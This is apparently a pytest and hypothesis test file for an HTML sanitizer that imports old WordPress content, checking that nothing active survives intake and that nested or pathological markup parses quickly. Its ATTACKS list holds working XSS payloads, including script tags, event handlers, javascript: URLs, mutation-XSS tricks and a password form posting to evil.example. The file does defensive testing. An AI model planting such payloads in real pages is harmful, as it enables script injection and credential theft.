"""Whatever the old system let in, nothing active comes over, and nothing makes intake fall."""

import re
import time

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nightdesk.intake.html import Body, GalleryAsked, PictureAsked, body_from
from tests.intake.copy import body_words, source_words

TAGS = (
    "p div b i em a ul ol li table tr td th thead caption blockquote cite pre code h1 h4 h6 figure "
    "figcaption img hr br span iframe video dl dt dd q section details summary noscript form input"
).split()
FRAGMENTS = [
    *(f"<{tag}>" for tag in TAGS),
    *(f"</{tag}>" for tag in TAGS),
    '<a href="https://quay.example/x">', '<img src="/a.jpg" alt="Boats">', '<td colspan="3">',
    '<div class="wp-block-gallery">', '<div class="wp-caption">', '<figure class="wp-block-embed">',
    "[caption]", '[caption id="attachment_3" caption="Tide"]', "[/caption]", "[gallery ids='1,2']",
    "[embed]", "[/embed]", "[video src=x.mp4]", "[[gallery]]", "<!-- wp:paragraph -->", "<!--", "-->",
    "<!--nextpage-->", "<![CDATA[", "<?php", "<!doctype x>", "\n\n", "\n", " ", "&amp;", "&nbsp;",
    "https://youtu.be/abc", "word", "دفعة", "远征", "<", ">", "&", '"',
]  # fmt: skip

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<p onclick=alert(1)>Tide</p>",
    '<a href="javascript:alert(1)">Tide</a>',
    '<a href="jav&#x09;ascript:alert(1)">Tide</a>',
    '<a href=" data:text/html,<script>alert(1)</script>">Tide</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
    '<embed src="javascript:alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></math>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<a href="https://quay.example/" onmouseover="alert(1)">Tide</a>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "[caption caption='<script>alert(1)</script>']<img src=a.jpg>[/caption]",
    '[video src="javascript:alert(1)"]',
    "<form action=https://evil.example><input name=password></form>",
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
    "<table><td><script>alert(1)</script></td><td onclick=x>Tide</td></table>",
    "<ul><li onclick=x><a href=vbscript:x>Tide</a></li></ul>",
    "<blockquote cite='javascript:alert(1)'>Tide</blockquote>",
]


def addresses_of(body: Body) -> list[str]:
    """Answer every address that a page would load or lead to, outside of running text."""
    found = [picture.source for picture in body.pictures()]
    for block in body.blocks:
        if isinstance(block.value, dict):
            found += [str(block.value.get(name) or "") for name in ("url", "source_url")]
    return [address for address in found if address]


def rich_text(body: Body) -> str:
    """Answer all that will be written into a page as HTML."""
    html: list[str] = []
    for block in body.blocks:
        if isinstance(block.value, str):
            html.append(block.value)
        elif isinstance(block.value, dict) and block.type == "quote":
            html.append(str(block.value["text"]))
        elif isinstance(block.value, dict) and block.type == "table":
            html += re.findall(r"<p>.*?</p>", str(block.value["rows"]))
    return "".join(html)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_comes_in(attack: str) -> None:
    body = body_from(f"<p>Before.</p>{attack}<p>After.</p>", base_url="https://old.example/")

    html = rich_text(body)
    assert "<script" not in html
    assert re.search(r"<[^>]*\son\w+\s*=", html) is None
    assert re.findall(r'href="(?!https?:|mailto:|tel:)', html) == []
    assert [
        text for text in addresses_of(body) if not text.startswith(("https://", "http://"))
    ] == []


@pytest.mark.parametrize("attack", ["[embed]javascript:alert(1)[/embed]", "javascript:alert(1)"])
def test_an_attack_that_is_only_text_stays_text(attack: str) -> None:
    assert rich_text(body_from(attack)) == "<p>javascript:alert(1)</p>"


def test_links_lead_to_pages_and_people_only() -> None:
    body = body_from(
        '<a href="https://quay.example/">web</a> <a href="mailto:ada@quay.example">mail</a> '
        '<a href="/2019/fire/">old</a> <a href="#top">top</a> <a href="ftp://quay.example">files</a>',
        base_url="https://old.example",
    )

    assert body.blocks[0].value == (
        '<p><a href="https://quay.example/">web</a> <a href="mailto:ada@quay.example">mail</a> '
        '<a href="https://old.example/2019/fire/">old</a> top files</p>'
    )
    assert body.changes == {"link_dropped": 2}


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=30).map("".join))
def test_any_heap_of_tags_becomes_clean_blocks(html: str) -> None:
    body = body_from(html, base_url="https://old.example/")

    for block in body.blocks:
        if isinstance(block.value, str):
            assert nh3.clean(block.value, link_rel=None) == nh3.clean(
                nh3.clean(block.value, link_rel=None), link_rel=None
            )
            assert "<script" not in block.value
        else:
            assert isinstance(block.value, dict | PictureAsked | GalleryAsked)


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=300))
def test_any_text_is_read_without_a_fall(text: str) -> None:
    body_from(text)
    body_from(f"<p>{text}</p>[caption]{text}[/caption]<!-- {text} -->")


WORDS = st.text(alphabet="abcdefgh ", min_size=1, max_size=12)
INLINE = st.one_of(
    WORDS,
    st.tuples(st.sampled_from(["b", "em", "code", "span", "small"]), WORDS).map(
        lambda t: f"<{t[0]}>{t[1]}</{t[0]}>"
    ),
)
LINES = st.lists(INLINE, min_size=1, max_size=4).map(" ".join)


FRAMES = (
    "<div>%s</div>",
    "<section>%s<h3>quay</h3></section>",
    "<blockquote>%s</blockquote>",
    "<blockquote>%s<cite>pier</cite></blockquote>",
    "<figure>%s<figcaption>tide</figcaption></figure>",
    '<figure class="wp-block-embed">%s<figcaption>tide</figcaption></figure>',
    "<figure><img src=a.jpg>%s<figcaption>tide</figcaption></figure>",
    '<figure><iframe src="https://youtu.be/x"></iframe>%s<figcaption>tide</figcaption></figure>',
    '[caption id="attachment_3"]<img src=a.jpg>%s[/caption]',
    '[caption]<iframe src="https://youtu.be/x"></iframe>%s[/caption]',
    '<div class="wp-caption"><img src=a.jpg>%s</div>',
    '<div class="gallery"><dl><dt><img src=a.jpg></dt><dd>%s</dd></dl><img src=b.jpg></div>',
    '<ul class="wp-block-gallery"><li><img src=a.jpg>%s</li><li><img src=b.jpg></li></ul>',
    "<dl><dt>ebb</dt><dd>%s</dd></dl>",
    "<details><summary>who</summary>%s</details>",
    "<table><caption>tides</caption><tr><th>%s</th><td>two</td></tr></table>",
    "<a href=x>%s</a>",
    "<noscript>%s</noscript>",
    "[embed]%s[/embed]",
)


def wrapped(children: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    several = st.lists(children, min_size=1, max_size=3)
    return st.one_of(
        st.tuples(st.sampled_from(FRAMES), several).map(lambda two: two[0] % "".join(two[1])),
        several.map(lambda parts: "<ul>" + "".join(f"<li>{part}</li>" for part in parts) + "</ul>"),
        several.map(lambda parts: "<ol>" + "".join(f"<li>{part}" for part in parts) + "</ol>"),
        several.map(
            lambda parts: "<table><tr>" + "".join(f"<td>{part}</td>" for part in parts) + "</table>"
        ),
    )


@settings(max_examples=150, deadline=None)
@given(st.recursive(LINES.map(lambda line: f"<p>{line}</p>"), wrapped, max_leaves=12))
def test_no_word_is_lost_however_copy_is_nested(html: str) -> None:
    missing = source_words(html) - body_words(body_from(html))

    assert not missing


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 50_000,
        "<b><p>" * 20_000,
        "<ul><li>" * 20_000,
        "<table><tr><td>" * 10_000,
        "<a href='" * 20_000,
        "</a" * 100_000,
        "<!--" * 100_000,
        "<![" * 100_000,
        "<?" * 100_000,
        "&#" * 100_000,
        "[caption " * 50_000,
        "[caption]" * 20_000,
        "<blockquote>" * 20_000,
        "x\n" * 100_000,
        "<p>x" * 50_000,
        "<a " + "b=c " * 50_000 + ">",
        '<td colspan="9999">' * 2_000,
    ],
    ids=lambda html: html[:12],
)
def test_a_heap_that_wants_to_be_slow_is_read_quickly(html: str) -> None:
    begun = time.process_time()

    body_from(html)

    assert time.process_time() - begun < 5
